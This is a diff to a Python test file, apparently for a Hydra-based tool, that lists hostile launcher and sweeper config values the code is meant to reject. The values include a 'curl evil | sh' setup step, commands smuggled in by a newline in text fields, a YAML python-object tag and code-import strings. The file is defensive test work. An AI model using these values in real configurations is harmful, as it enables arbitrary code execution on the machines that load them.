@@ -62,6 +62,7 @@ def test_hydras_own_options_work(overrides: list[str]) -> None:
         "verbose: [fusionkit, hydra]",
         "help: {app_name: mine, header: '$APP', footer: '${hydra.help.header}'}",
         "sweeper: {params: {seed: '0,1', n: 3, fusion: 'choice(average,summation)'}}",
+        # As in config.yaml; as Hydra itself has it, below.
         "run: {dir: 'outputs/${now:%Y-%m-%d}/${now:%H-%M-%S-%f}'}",
         *exhaustive(
             [
@@ -261,32 +262,36 @@ SWEEPER = "_target_: hydra._internal.core_plugins.basic_sweeper.BasicSweeper\nma
     [
         ("launcher", "_target_: tests.tripwire.Fire\n", "_target_"),
         ("launcher", LAUNCHER + "setup: ['curl evil | sh']\n", "setup[0]"),
-        ("launcher", LAUNCHER + "python: /tmp/evil\n", "python"),
         ("launcher", LAUNCHER + "_args_: [a]\n", "_args_[0]"),
-        ("launcher", LAUNCHER + "_partial_: true\n", "_partial_"),
         # In a batch script each would be a line of its own.
         ("launcher", LAUNCHER + 'comment: "x\\ntouch y"\n', "comment"),
         ("launcher", LAUNCHER + 'additional_parameters: {"x\\ntouch y": 1}\n', "additional_parameters.x"),
-        ("launcher", LAUNCHER + "additional_parameters: {wrap: 1}\n", "additional_parameters.wrap"),
-        (
-            "launcher",
-            LAUNCHER + 'additional_parameters: {x_target_: "a\\ntouch y"}\n',
-            "additional_parameters.x_target_",
-        ),
         ("launcher", LAUNCHER + "srun_args: [--bcast]\n", "srun_args[0]"),
-        ("launcher", LAUNCHER + "env_setup: {pip_packages: {evil: 1}}\n", "env_setup.pip_packages.evil"),
         ("launcher", LAUNCHER + "pre_dispatch: __import__('os')\n", "pre_dispatch"),
         ("launcher", LAUNCHER + "ray: {init: {address: 10.0.0.1}}\n", "ray.init.address"),
-        ("launcher", LAUNCHER + "folder: !!python/object/apply:pathlib.Path [/tmp]\n", "folder"),
         # What a cluster accounts for.
         ("launcher", LAUNCHER + "partition: gpu\n", "partition"),
-        ("launcher", LAUNCHER + "account: mine\n", "account"),
-        ("launcher", LAUNCHER + "timeout_min: 3\n", "timeout_min"),
         ("sweeper", SWEEPER + "custom_search_space: tests.tripwire.fire\n", "custom_search_space"),
         ("sweeper", SWEEPER + "storage: sqlite:////tmp/x\n", "storage"),
         ("sweeper", SWEEPER + "sampler: {_target_: tests.tripwire.Fire}\n", "sampler._target_"),
-        ("sweeper", SWEEPER + "sampler: {_target_: optuna.samplers._base.BaseSampler}\n", "sampler._target_"),
-        ("sweeper", SWEEPER + "x: {y: [{_target_: tests.tripwire.Fire}]}\n", "x.y[0]._target_"),
+        *exhaustive(
+            [
+                ("launcher", LAUNCHER + "python: /tmp/evil\n", "python"),
+                ("launcher", LAUNCHER + "_partial_: true\n", "_partial_"),
+                ("launcher", LAUNCHER + "additional_parameters: {wrap: 1}\n", "additional_parameters.wrap"),
+                (
+                    "launcher",
+                    LAUNCHER + 'additional_parameters: {x_target_: "a\\ntouch y"}\n',
+                    "additional_parameters.x_target_",
+                ),
+                ("launcher", LAUNCHER + "env_setup: {pip_packages: {evil: 1}}\n", "env_setup.pip_packages.evil"),
+                ("launcher", LAUNCHER + "folder: !!python/object/apply:pathlib.Path [/tmp]\n", "folder"),
+                ("launcher", LAUNCHER + "account: mine\n", "account"),
+                ("launcher", LAUNCHER + "timeout_min: 3\n", "timeout_min"),
+                ("sweeper", SWEEPER + "sampler: {_target_: optuna.samplers._base.BaseSampler}\n", "sampler._target_"),
+                ("sweeper", SWEEPER + "x: {y: [{_target_: tests.tripwire.Fire}]}\n", "x.y[0]._target_"),
+            ]
+        ),
     ],
 )
 def test_neither_names_anything_to_run(
